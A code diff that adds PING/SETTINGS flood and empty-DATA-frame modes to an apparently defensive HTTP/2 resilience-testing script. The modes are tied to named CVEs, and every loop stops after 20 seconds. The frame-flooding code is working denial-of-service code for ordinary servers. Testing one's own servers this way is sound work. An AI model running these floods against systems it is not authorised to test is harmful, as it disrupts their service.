@@ -4,6 +4,9 @@
   continuation HOST PORT DIR MB   one HEADERS frame without END_HEADERS, then CONTINUATION frames of 16 KiB,
                                   up to MB mebibytes or 20 s (CVE-2024-30255 / -27316 class)
   rapid-reset HOST PORT DIR N     N requests each reset at once (HEADERS + RST_STREAM), at most 20 s (CVE-2023-44487)
+  control HOST PORT DIR N KIND    N PING or SETTINGS frames (KIND ping|settings), never reading the acknowledgements the
+                                  server queues (CVE-2019-9512 / -9515), at most 20 s
+  empty-data HOST PORT DIR N      one stream, then N DATA frames with no payload (CVE-2019-9518), at most 20 s
 Prints one line: what was sent and how the server reacted ("goaway" with its error code, "closed", or "nothing").
 DIR holds client.pem, client.key and ca.pem; DIR "-" connects without a client certificate (and does not check the
 server's); DIR "h2c" speaks plaintext HTTP/2 with prior knowledge (an app-facing port). Every loop is bounded in
@@ -139,6 +142,56 @@ def rapid_reset(host, port, certs, count):
     print("rapid-reset: sent %d HEADERS+RST_STREAM pairs in %.1f s; server: %s" % (sent, time.monotonic() - start, outcome))
 
 
+def flood(what, host, port, certs, count, frame_of):
+    """Sends count frames made by frame_of(i), in batches, without reading; prints how the server reacted."""
+    try:
+        sock, conn = connect(host, port, certs)
+    except (ConnectionError, ssl.SSLError, OSError) as e:
+        refused_at_handshake(what, e)
+        return
+    sent, start, outcome = 0, time.monotonic(), None
+    sock.settimeout(5)
+    while sent < count and time.monotonic() - start < 20:
+        batch = b"".join(frame_of(sent + i) for i in range(1000))
+        try:
+            sock.sendall(batch)
+        except (ConnectionError, ssl.SSLError, OSError) as e:
+            outcome = "closed (%s)" % type(e).__name__
+            break
+        sent += 1000
+        if sent % 50000 == 0:
+            outcome = reaction(sock, conn)
+            if outcome:
+                break
+    time.sleep(0.5)
+    outcome = outcome or reaction(sock, conn) or "nothing"
+    print("%s: sent %d frames in %.1f s; server: %s" % (what, sent, time.monotonic() - start, outcome))
+
+
+def control(host, port, certs, count, kind):
+    if kind == "ping":
+        frame_of = lambda i: hyperframe.frame.PingFrame(0, opaque_data=i.to_bytes(8, "big")).serialize()
+    else:
+        frame_of = lambda i: hyperframe.frame.SettingsFrame(0, settings={0x4: 65535 + i % 100}).serialize()
+    flood(kind, host, port, certs, count, frame_of)
+
+
+def empty_data(host, port, certs, count):
+    block = h2.connection.H2Connection().encoder.encode(
+        [(":method", "POST"), (":scheme", "https"), (":path", "/"), (":authority", "backend")])
+
+    def frame_of(i):
+        if i == 0:
+            return hyperframe.frame.HeadersFrame(1, data=block, flags=["END_HEADERS"]).serialize()
+        return hyperframe.frame.DataFrame(1, data=b"").serialize()
+    flood("empty-data", host, port, certs, count, frame_of)
+
+
 if __name__ == "__main__":
     mode, host, port, certs, amount = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4], int(sys.argv[5])
-    {"continuation": continuation, "rapid-reset": rapid_reset}[mode](host, port, certs, amount)
+    if mode == "control":
+        control(host, port, certs, amount, sys.argv[6])
+    elif mode == "empty-data":
+        empty_data(host, port, certs, amount)
+    else:
+        {"continuation": continuation, "rapid-reset": rapid_reset}[mode](host, port, certs, amount)
